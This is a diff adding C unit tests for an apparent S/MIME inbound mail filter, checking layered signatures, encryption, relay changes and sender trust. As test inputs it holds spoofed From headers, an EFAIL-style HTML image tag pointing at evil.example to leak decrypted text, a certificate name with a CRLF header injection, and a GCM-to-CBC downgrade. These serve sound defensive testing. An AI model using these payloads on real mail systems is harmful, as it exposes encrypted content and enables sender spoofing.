@@ -344,6 +344,11 @@ START_TEST(trust_remembered)
 	ck_assert_int_eq(pipes_run_buf(&w, &sealed), JOB_NEEDS_TRUST);
 	ck_assert_str_eq(w.res.signers.from, "doctor@hospital.example");
 	PIPES_COPY(w.rq.trust_from, "doctor@hospital.example");
+	w.rq.trust.v[0].caps[0] ^= 1; /* it says something new of its reader */
+	ck_assert_int_eq(pipes_run_buf(&w, &sealed), JOB_NEEDS_TRUST);
+	ck_assert_uint_gt(w.res.signers.v[0].caps.n, 0);
+	w.rq.trust.v[0].caps[0] ^= 1;
+	ck_assert_int_eq(pipes_run_buf(&w, &sealed), JOB_DONE);
 	w.rq.trust.v[0].sha256[0] ^= 1;
 	ck_assert_int_eq(pipes_run_buf(&w, &sealed), JOB_NEEDS_TRUST);
 	w.rq.trust.n = 0;
@@ -468,7 +473,14 @@ END_TEST
 /* The same with the one From field changed in place. */
 static const char *const froms[] = {"X-Not-From:doctor@hospital.example\r\n",
     "From: a@hospital.example, doctor@hospital.example\r\n", "From: undisclosed:;\r\n",
-    "From: doctor@hospital.example <boss@hospital.example> x\r\n"};
+    "From: doctor@hospital.example <boss@hospital.example> x\r\n", "From:\r\n", "From: <>\r\n",
+    "From: staff: doctor@hospital.example;\r\n", "From: doctor\r\n", "From: doctor @hospital.example\r\n",
+    "From: doctor@hospital.example (boss@hospital.example)\r\n", "From: doctor@(x)hospital.example\r\n",
+    "From: =?utf-8?q?doctor?=@hospital=?utf-8?q?.?=example\r\n", "From: <@relay.example:doctor@hospital.example>\r\n",
+    "From: <doctor@hospital.example>, \r\n", "From: doctor@hospital.example\r\nFROM: doctor@hospital.example\r\n",
+    "From: \"x <doctor@hospital.example>\" <boss@hospital.example>\r\n", "From: doct\xf6r@hospital.example\r\n",
+    "From: doctor@hospital.example@evil.example\r\n", "Sender: doctor@hospital.example\r\n",
+    "Resent-From: doctor@hospital.example\r\n"};
 
 START_TEST(odd_from)
 {
@@ -509,6 +521,8 @@ START_TEST(signature_over_a_part)
 	    0);
 	ck_assert_int_eq(run_trusted(JOB_CHECK, &b, JUDGE_TRUST_GOOD), JOB_DONE);
 	ck_assert(!shows("smime=pass") && shows("PAYHERE"));
+	ck_assert(shows("smime=neutral") && shows("X-Postern-Verdict: partly-signed") && shows("X-Postern-Part: 2 "));
+	ck_assert_str_eq(w.res.layers, "[2=signed]");
 	buf_clear(&b);
 	buf_clear(&m);
 }
@@ -610,6 +624,448 @@ START_TEST(neither_signed_nor_sealed)
 }
 END_TEST
 
+/* ---- layers, signers, parts ---- */
+
+/* Signed by openssl's code, by all of these (n = 1 or 2). */
+static struct buf signed_by(const struct testcert *const *who, int n, const void *p, size_t len, bool detached)
+{
+	BIO *in = BIO_new_mem_buf(p, (int)len);
+	unsigned flags = CMS_BINARY | CMS_PARTIAL | (detached ? CMS_DETACHED : 0);
+	CMS_ContentInfo *c = CMS_sign(NULL, NULL, NULL, in, flags);
+	unsigned char *der = NULL;
+	struct buf out;
+	int k;
+
+	ck_assert_ptr_nonnull(c);
+	for (int i = 0; i < n; i++)
+		ck_assert_ptr_nonnull(CMS_add1_signer(c, who[i]->x, who[i]->key, EVP_sha256(), flags));
+	ck_assert_int_eq(CMS_final(c, in, NULL, flags), 1);
+	k = i2d_CMS_ContentInfo(c, &der);
+	buf_init(&out, PIPES_MAX);
+	ck_assert_int_eq(buf_add(&out, der, (size_t)k), 0);
+	OPENSSL_free(der);
+	CMS_ContentInfo_free(c);
+	BIO_free(in);
+	return out;
+}
+
+/* An entity around CMS octets. */
+static struct buf wrapped(const char *fields, const char *type, struct buf *der)
+{
+	struct buf out;
+
+	pipes_wrap(fields, type, der, &out);
+	buf_clear(der);
+	return out;
+}
+
+static struct buf enveloped_in(const char *fields, const struct buf *inner)
+{
+	struct buf der;
+
+	pipes_envelope(w.lab.x, inner->p, inner->len, &der);
+	return wrapped(fields, "enveloped-data", &der);
+}
+
+static struct buf opaque_in(const char *fields, const struct testcert *who, const void *p, size_t n)
+{
+	struct buf der = signed_by(&who, 1, p, n, false);
+
+	return wrapped(fields, "signed-data", &der);
+}
+
+#define TEXT_PART "Content-Type: text/plain\r\n\r\nhello, SECRETWORD\r\n"
+
+/* The judge answers each signer by its certificate: doctor's is good, the others as said. */
+static void trust_hospital(enum judge_trust_state others)
+{
+	pipes_trust(&w, others);
+	for (size_t i = 0; i < w.rq.trust.n; i++)
+		if (strcmp(w.rq.trust.v[i].sha256, w.hospital.sha256) == 0)
+			w.rq.trust.v[i].state = JUDGE_TRUST_GOOD;
+}
+
+static enum job_status run_hospital(enum job_kind kind, const struct buf *b, enum judge_trust_state others)
+{
+	if (run(kind, b) != JOB_NEEDS_TRUST)
+		return (enum job_status)w.res.status;
+	trust_hospital(others);
+	return pipes_run_buf(&w, b);
+}
+
+START_TEST(name_that_shows_another)
+{
+	struct buf b = opaque_in("From: \"ceo@bank.example\" <doctor@hospital.example>\r\nTo: bob@lab.example\r\n",
+	    &w.hospital, OCTETS(TEXT_PART));
+
+	ck_assert_int_eq(run_hospital(JOB_CHECK, &b, JUDGE_TRUST_GOOD), JOB_DONE);
+	ck_assert_str_eq(w.res.from_domain, "hospital.example");
+	ck_assert(shows("smime=pass") && shows("X-Postern-Author: the name beside") && shows("ceo@bank.example"));
+	ck_assert_ptr_nonnull(strstr(w.res.outputs[0].why, "ceo@bank.example"));
+	buf_clear(&b);
+}
+END_TEST
+
+/* What was signed, what came, and the words for it. */
+#define H "Content-Type: text/plain\r\n\r\n"
+static const struct {
+	const char *was, *came, *says;
+} relays[] = {
+    {H "one\r\ntwo\r\n", H "one\r\ntwo\r\n_____\r\nthe list's footer\r\n", "a footer of"},
+    {H "one\r\ntwo", H "one\r\ntwo\r\n-- \r\nfooter", "a footer of 13 octets"},
+    {H "one\r\n", H "CAUTION: from outside\r\n\r\none\r\n", "put in front"},
+    {H "one\r\ntwo\r\n", H "one  \r\ntwo \r\n", "blanks were added"},
+    {H "one\r\nFrom me\r\n", H "one\r\n>From me\r\n", "\">\" was put"},
+    {H "one\r\n", H "one", "a line end was taken"},
+    {H "one", H "one\r\n\r\n", "empty lines were added"},
+    {"Content-Type: text/plain\n\none\ntwo\n", H "one\r\ntwo\r\n", "bare LF"},
+    {"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\ngr\xc3\xbc\xc3\x9f=\r\n",
+	"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: "
+	"quoted-printable\r\n\r\ngr=C3=BC=C3=9F=3D\r\n",
+	"re-encoded it from 8bit to quoted-printable"},
+    {"Content-Transfer-Encoding: 8bit\r\n\r\none\r\n", "Content-Transfer-Encoding: base64\r\n\r\nb25lDQo=\r\n",
+	"re-encoded it from 8bit to base64"},
+    {H "pay 100\r\n", H "pay 900\r\n", NULL},
+};
+
+START_TEST(relay_did_it)
+{
+	const struct testcert *who = &w.hospital;
+	struct buf der = signed_by(&who, 1, relays[_i].was, strlen(relays[_i].was), true), part, b;
+
+	pipes_wrap("", "signed-data", &der, &part);
+	buf_init(&b, PIPES_MAX);
+	ck_assert_int_eq(
+	    buf_addf(&b,
+		PIPES_FIELDS
+		"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; "
+		"boundary=b\r\n\r\n--b\r\n%s\r\n--b\r\nContent-Type: application/pkcs7-signature\r\n"
+		"Content-Transfer-Encoding: base64\r\n%s\r\n--b--\r\n",
+		relays[_i].came, strstr(buf_str(&part), "\r\n\r\n") + 2),
+	    0);
+	ck_assert_int_eq(run_hospital(JOB_CHECK, &b, JUDGE_TRUST_GOOD), JOB_DONE);
+	ck_assert(shows("smime=fail") && !shows("smime=pass") && shows("X-Postern-Verdict: broken"));
+	if (relays[_i].says != NULL)
+		ck_assert_msg(
+		    strstr(w.res.outputs[0].why, relays[_i].says) != NULL, "%d: %s", _i, w.res.outputs[0].why);
+	else
+		ck_assert_msg(strstr(w.res.outputs[0].why, "(its digest differs) (layers: ") != NULL, "%s",
+		    w.res.outputs[0].why);
+	buf_clear(&der);
+	buf_clear(&part);
+	buf_clear(&b);
+}
+END_TEST
+
+/* One verdict for each; of one content one who is believed suffices, but all signatures must hold. */
+START_TEST(several_signers)
+{
+	const struct testcert *who[] = {&w.foreign, &w.hospital};
+	struct buf der = signed_by(who, 2, OCTETS(TEXT_PART), false), b;
+
+	pipes_wrap(PIPES_FIELDS, "signed-data", &der, &b);
+	ck_assert_int_eq(run_hospital(JOB_CHECK, &b, JUDGE_TRUST_UNTRUSTED), JOB_DONE);
+	ck_assert(shows("Authentication-Results: auth.lab.example; smime=pass") && shows("smime=policy"));
+	ck_assert(shows("CN=hospital.example") && shows("CN=foreign.example"));
+	ck_assert(strstr(w.res.layers, "pass") && strstr(w.res.layers, "untrusted"));
+	buf_clear(&b);
+	/* the last signature damaged */
+	der.p[der.len - 3] ^= 1;
+	pipes_wrap(PIPES_FIELDS, "signed-data", &der, &b);
+	ck_assert_int_eq(run_hospital(JOB_CHECK, &b, JUDGE_TRUST_GOOD), JOB_DONE);
+	ck_assert(shows("smime=fail") && !shows("smime=pass") && strstr(w.res.layers, "fail"));
+	buf_clear(&b);
+	buf_clear(&der);
+}
+END_TEST
+
+/* Around an encryption anybody can sign. */
+START_TEST(signed_outside_only)
+{
+	struct buf text, env, b;
+
+	buf_init(&text, PIPES_MAX);
+	ck_assert_int_eq(buf_adds(&text, TEXT_PART), 0);
+	env = enveloped_in("", &text);
+	b = opaque_in(PIPES_FIELDS, &w.hospital, env.p, env.len);
+	ck_assert_int_eq(run(JOB_CHECK, &b), JOB_AS_IT_CAME);
+	ck_assert_int_eq(run_hospital(JOB_OPEN, &b, JUDGE_TRUST_GOOD), JOB_HOLD);
+	ck_assert_msg(strstr(w.res.why, "signed outside only") != NULL, "%s", w.res.why);
+	ck_assert(!w.res.protected_in && !w.res.open_failed);
+	memset(w.rq.in_rules, POLICY_DELIVER, sizeof(w.rq.in_rules));
+	ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_DONE);
+	ck_assert(!shows("smime=pass") && shows("X-Postern-Verdict: encrypted") && !w.res.protected_in);
+	buf_clear(&text);
+	buf_clear(&env);
+	buf_clear(&b);
+}
+END_TEST
+
+START_TEST(triple)
+{
+	struct buf in = opaque_in("", &w.hospital, OCTETS(TEXT_PART)), env = enveloped_in("", &in),
+		   b = opaque_in(PIPES_FIELDS, &w.foreign, env.p, env.len);
+
+	ck_assert_int_eq(run(JOB_CHECK, &b), JOB_AS_IT_CAME);
+	ck_assert_int_eq(run_hospital(JOB_OPEN, &b, JUDGE_TRUST_UNBOUND), JOB_DONE);
+	ck_assert(shows("X-Postern-Verdict: sealed") && shows("smime=pass") && w.res.protected_in);
+	ck_assert_str_eq(w.res.layers, "signed(sha256)=unbound>enveloped(aes-256-cbc)>signed(sha256)=pass");
+	ck_assert(shows("X-Postern-Layer: 1 signed") && shows("X-Postern-Layer: 2 enveloped") &&
+		  shows("X-Postern-Layer: 3 signed"));
+	/* the outer one fails: all fails */
+	buf_clear(&b);
+	b = opaque_in(PIPES_FIELDS, &w.foreign, env.p, env.len);
+	buf_clear(&env);
+	pipes_unwrap(&b, &env);
+	env.p[env.len - 3] ^= 1;
+	buf_clear(&b);
+	pipes_wrap(PIPES_FIELDS, "signed-data", &env, &b);
+	ck_assert_int_eq(run_hospital(JOB_OPEN, &b, JUDGE_TRUST_GOOD), JOB_HOLD);
+	buf_clear(&in);
+	buf_clear(&env);
+	buf_clear(&b);
+}
+END_TEST
+
+/* The author signs around what a stranger signed: the stranger's is the signature of the content. */
+START_TEST(outer_signer_lends_nothing)
+{
+	struct buf in = opaque_in("", &w.foreign, OCTETS(TEXT_PART)),
+		   b = opaque_in(PIPES_FIELDS, &w.hospital, in.p, in.len);
+
+	ck_assert_int_eq(run_hospital(JOB_CHECK, &b, JUDGE_TRUST_UNTRUSTED), JOB_DONE);
+	ck_assert(!shows("smime=pass") && shows("X-Postern-Verdict: untrusted"));
+	buf_clear(&in);
+	buf_clear(&b);
+}
+END_TEST
+
+static struct buf compressed_in(const char *fields, const void *p, size_t n)
+{
+	BIO *in = BIO_new_mem_buf(p, (int)n);
+	CMS_ContentInfo *c = CMS_compress(in, NID_zlib_compression, CMS_BINARY);
+	struct buf der;
+
+	BIO_free(in);
+	buf_init(&der, PIPES_MAX);
+	if (c != NULL) {
+		unsigned char *q = NULL;
+		int k = i2d_CMS_ContentInfo(c, &q);
+
+		ck_assert_int_eq(buf_add(&der, q, (size_t)k), 0);
+		OPENSSL_free(q);
+		CMS_ContentInfo_free(c);
+	}
+	return der.len == 0 ? der : wrapped(fields, "compressed-data", &der);
+}
+
+/* Within the limits of nesting, wherever it stands. Where OpenSSL has no zlib nothing can be made here; cms_compress
+ * has tests of its own. */
+START_TEST(compressed)
+{
+	struct buf in = opaque_in("", &w.hospital, OCTETS(TEXT_PART)), c = compressed_in("", in.p, in.len), env, b;
+
+	if (c.len > 0) {
+		env = enveloped_in(PIPES_FIELDS, &c);
+		ck_assert_int_eq(run(JOB_CHECK, &env), JOB_AS_IT_CAME);
+		ck_assert_int_eq(run_hospital(JOB_OPEN, &env, JUDGE_TRUST_GOOD), JOB_DONE);
+		ck_assert_str_eq(w.res.layers, "enveloped(aes-256-cbc)>compressed>signed(sha256)=pass");
+		b = compressed_in(PIPES_FIELDS, OCTETS(TEXT_PART));
+		ck_assert_int_eq(run(JOB_CHECK, &b), JOB_DONE);
+		ck_assert(shows("SECRETWORD") && shows("X-Postern-Verdict: clear") && shows("smime=none"));
+		buf_clear(&b);
+		buf_clear(&env);
+	}
+	buf_clear(&c);
+	buf_clear(&in);
+}
+END_TEST
+
+#define MIXED PIPES_FIELDS "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n"
+
+START_TEST(partly_signed)
+{
+	struct buf in = opaque_in("", &w.hospital, OCTETS(TEXT_PART)), b;
+
+	buf_init(&b, PIPES_MAX);
+	ck_assert_int_eq(buf_addf(&b, MIXED "--m\r\n%s\r\n--m\r\n\r\nfooter\r\n--m--\r\n", buf_str(&in)), 0);
+	ck_assert_int_eq(run(JOB_CHECK, &b), JOB_DONE);
+	ck_assert(shows("smime=neutral") && shows("X-Postern-Verdict: partly-signed") && shows("part 1 "));
+	buf_reset(&b);
+	ck_assert_int_eq(
+	    buf_addf(&b, MIXED "--m\r\n\r\nsee below\r\n--m\r\nContent-Type: message/rfc822\r\n\r\n%s%s\r\n--m--\r\n",
+		PIPES_FIELDS, buf_str(&in)),
+	    0);
+	ck_assert_int_eq(run(JOB_CHECK, &b), JOB_DONE);
+	ck_assert(shows("X-Postern-Verdict: partly-signed") && shows("in an attached message"));
+	buf_clear(&in);
+	buf_clear(&b);
+}
+END_TEST
+
+/* EFAIL's shapes; %s is an enveloped entity, without its label where a reader goes by the content alone. */
+static const struct {
+	const char *shape;
+	bool found;
+} shapes[] = {
+    {"--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--m\r\n%s\r\n--m\r\nContent-Type: "
+     "text/html\r\n\r\n\">\r\n--m--\r\n",
+	true},
+    {"--m\r\n%s\r\n--m--\r\n", true},
+    {"--m\r\n%1$s\r\n--m\r\n%1$s\r\n--m--\r\n", true},
+    {"--m\r\n%s\r\n--m\r\nContent-Type: multipart/mixed\r\n\r\n", true}, /* cannot be followed further */
+    {"--m\r\nContent-Type: multipart/mixed\r\n\r\nx\r\n--m\r\n%s\r\n--m--\r\n", true},
+    {"--m\r\nContent-Type: message/rfc822\r\n\r\n%s\r\n--m--\r\n", false}, /* a message attached */
+    {"--m\r\nContent-Type: application/pkcs7-mime; smime-type=signed-data; name=x.pdf.p7m\r\n\r\n0\r\n--m--\r\n",
+	false},
+};
+
+START_TEST(encrypted_part)
+{
+	struct buf text, env, b;
+	char *label;
+
+	buf_init(&text, PIPES_MAX);
+	ck_assert_int_eq(buf_adds(&text, TEXT_PART), 0);
+	env = enveloped_in("", &text);
+	for (int bare = 0; bare < 2; bare++) {
+		label = strstr((char *)env.p, "smime-type=");
+		if (bare == 1 && label != NULL)
+			memcpy(label, "x", 1); /* xmime-type=... */
+		buf_init(&b, PIPES_MAX);
+#pragma GCC diagnostic push
+#pragma GCC diagnostic ignored "-Wformat-nonliteral"
+		ck_assert_int_eq(buf_adds(&b, MIXED), 0);
+		ck_assert_int_eq(buf_addf(&b, shapes[_i].shape, buf_str(&env)), 0);
+#pragma GCC diagnostic pop
+		pipes_job(&w, JOB_CHECK);
+		w.rq.encrypted_part = POLICY_DSN_REFUSE;
+		ck_assert_int_eq(pipes_run_buf(&w, &b), shapes[_i].found ? JOB_REFUSE : JOB_DONE);
+		if (shapes[_i].found)
+			ck_assert_msg(
+			    strstr(w.res.pr.text, "encrypted part") || strstr(w.res.pr.text, "is encrypted"), "%s",
+			    w.res.pr.text);
+		w.rq.encrypted_part = POLICY_DSN_HOLD;
+		ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_DONE);
+		ck_assert_int_eq(w.res.outputs[0].action == POLICY_HOLD, shapes[_i].found);
+		ck_assert(!shows("SECRETWORD")); /* never opened */
+		w.rq.released = true;
+		ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_DONE);
+		ck_assert(!shows("SECRETWORD"));
+		buf_clear(&b);
+	}
+	buf_clear(&env);
+	buf_clear(&text);
+}
+END_TEST
+
+/* The same under an encryption and a good signature: held, whatever is configured to be refused. */
+START_TEST(encrypted_part_inside)
+{
+	struct buf text, env, in, sig, b;
+
+	buf_init(&text, PIPES_MAX);
+	ck_assert_int_eq(buf_adds(&text, TEXT_PART), 0);
+	env = enveloped_in("", &text);
+	buf_init(&in, PIPES_MAX);
+	ck_assert_int_eq(
+	    buf_addf(&in, "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\nx\r\n--m\r\n%s\r\n--m--\r\n",
+		buf_str(&env)),
+	    0);
+	sig = opaque_in("", &w.hospital, in.p, in.len);
+	b = enveloped_in(PIPES_FIELDS, &sig);
+	ck_assert_int_eq(run(JOB_CHECK, &b), JOB_AS_IT_CAME);
+	pipes_job(&w, JOB_OPEN);
+	w.rq.encrypted_part = POLICY_DSN_REFUSE;
+	ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_NEEDS_TRUST);
+	trust_hospital(JUDGE_TRUST_GOOD);
+	ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_HOLD);
+	ck_assert_msg(strstr(w.res.why, "part 2 is encrypted") != NULL, "%s", w.res.why);
+	buf_clear(&text);
+	buf_clear(&env);
+	buf_clear(&in);
+	buf_clear(&sig);
+	buf_clear(&b);
+}
+END_TEST
+
+/* AuthEnvelopedData made EnvelopedData with CBC: the whole way, nothing of it shows and nothing is delivered. */
+START_TEST(gcm_relabelled)
+{
+	static const uint8_t gcm[] = {0x60, 0x86, 0x48, 1, 0x65, 3, 4, 1, 0x2e};
+	struct cms_recipient r = {.cert = w.lab.x, .mode = CMS_KEY_RSA_V15};
+	struct problem pr = {0};
+	struct buf der, b;
+	struct stream_buf to;
+	struct cms_enc *e;
+	uint8_t *at;
+
+	buf_init(&der, PIPES_MAX);
+	stream_buf_init(&to, &der);
+	e = cms_enc_new(&r, 1, CMS_AES_256_GCM, &to.writer, &pr);
+	ck_assert_ptr_nonnull(e);
+	ck_assert_int_eq(stream_write(cms_enc_writer(e), OCTETS(TEXT_PART), &pr), 0);
+	ck_assert_int_eq(cms_enc_end(e, &pr), 0);
+	at = memmem(der.p, der.len, gcm, sizeof(gcm));
+	ck_assert_ptr_nonnull(at);
+	at[8] = 0x2a; /* aes256-CBC, still under the old wrapping and parameters */
+	pipes_wrap(PIPES_FIELDS, "authEnveloped-data", &der, &b);
+	ck_assert_int_eq(run(JOB_CHECK, &b), JOB_REFUSE);
+	ck_assert_int_eq(run(JOB_OPEN, &b), JOB_HOLD);
+	buf_clear(&b);
+	buf_clear(&der);
+}
+END_TEST
+
+/* The mark is ours alone, in marked mail and in good mail. */
+START_TEST(mark_of_the_sender)
+{
+	struct buf b = opaque_in("From: doctor@hospital.example\r\nTo: bob@lab.example\r\nSubject: "
+				 "=?utf-8?q?Re:_[not=C2=A0veri?= =?utf-8?q?fied]_result?=\r\n",
+	    &w.hospital, OCTETS(TEXT_PART));
+	const char *text, *at;
+
+	for (int i = 0; i < 2; i++) {
+		ck_assert_int_eq(run(JOB_CHECK, &b), JOB_NEEDS_TRUST);
+		trust_hospital(JUDGE_TRUST_GOOD);
+		if (i == 1)
+			w.rq.trust.v[0].state = JUDGE_TRUST_UNTRUSTED;
+		w.rq.subject_mark = true;
+		ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_DONE);
+		text = pipes_text(&w, 0);
+		at = strstr(text, "\r\nSubject: ");
+		ck_assert_ptr_nonnull(at);
+		ck_assert_msg(strncmp(at + 11, "[not verified] ", 15) == 0 ? i == 1 : i == 0, "%.100s", at);
+		ck_assert(strstr(at, "veri?=") == NULL);
+	}
+	buf_clear(&b);
+}
+END_TEST
+
+/* A certificate full of text: what is said of it stays within bounds, and begins no field. */
+START_TEST(fields_are_bounded)
+{
+	char cn[65];
+	struct testcert long_one;
+	struct buf b;
+	size_t n = 0;
+
+	memset(cn, 'x', 64);
+	cn[64] = 0;
+	memcpy(cn + 10, "\r\nX-Evil: 1\r\n", 14);
+	long_one = testcert_make(&(struct testcert_spec){.cn = cn});
+	b = opaque_in(PIPES_FIELDS, &long_one, OCTETS(TEXT_PART));
+	ck_assert_int_eq(run_trusted(JOB_CHECK, &b, JUDGE_TRUST_UNTRUSTED), JOB_DONE);
+	ck_assert(!shows("\nX-Evil") && strlen(w.res.log) < sizeof(w.res.log));
+	for (const char *p = pipes_text(&w, 0), *end = strstr(p, PIPES_TRACE_IN) + strlen(PIPES_TRACE_IN);
+	     end < strstr(p, "\r\nFrom: "); end++)
+		n++;
+	ck_assert_uint_lt(n, 6000);
+	buf_clear(&b);
+	testcert_free(&long_one);
+}
+END_TEST
+
 int main(void)
 {
 	Suite *s = suite_create("inbound");
@@ -635,6 +1091,19 @@ int main(void)
 	tcase_add_loop_test(t, answers_of_others, 0, 12);
 	tcase_add_loop_test(t, several_from, 0, (int)(sizeof(fronts) / sizeof(fronts[0])));
 	tcase_add_loop_test(t, odd_from, 0, (int)(sizeof(froms) / sizeof(froms[0])));
+	tcase_add_test(t, name_that_shows_another);
+	tcase_add_loop_test(t, relay_did_it, 0, (int)(sizeof(relays) / sizeof(relays[0])));
+	tcase_add_test(t, several_signers);
+	tcase_add_test(t, signed_outside_only);
+	tcase_add_test(t, triple);
+	tcase_add_test(t, outer_signer_lends_nothing);
+	tcase_add_test(t, compressed);
+	tcase_add_test(t, partly_signed);
+	tcase_add_loop_test(t, encrypted_part, 0, (int)(sizeof(shapes) / sizeof(shapes[0])));
+	tcase_add_test(t, encrypted_part_inside);
+	tcase_add_test(t, gcm_relabelled);
+	tcase_add_test(t, mark_of_the_sender);
+	tcase_add_test(t, fields_are_bounded);
 	tcase_add_test(t, signature_over_a_part);
 	tcase_add_test(t, changed_after_signing);
 	tcase_add_loop_test(t, forged_results, 0, 3);
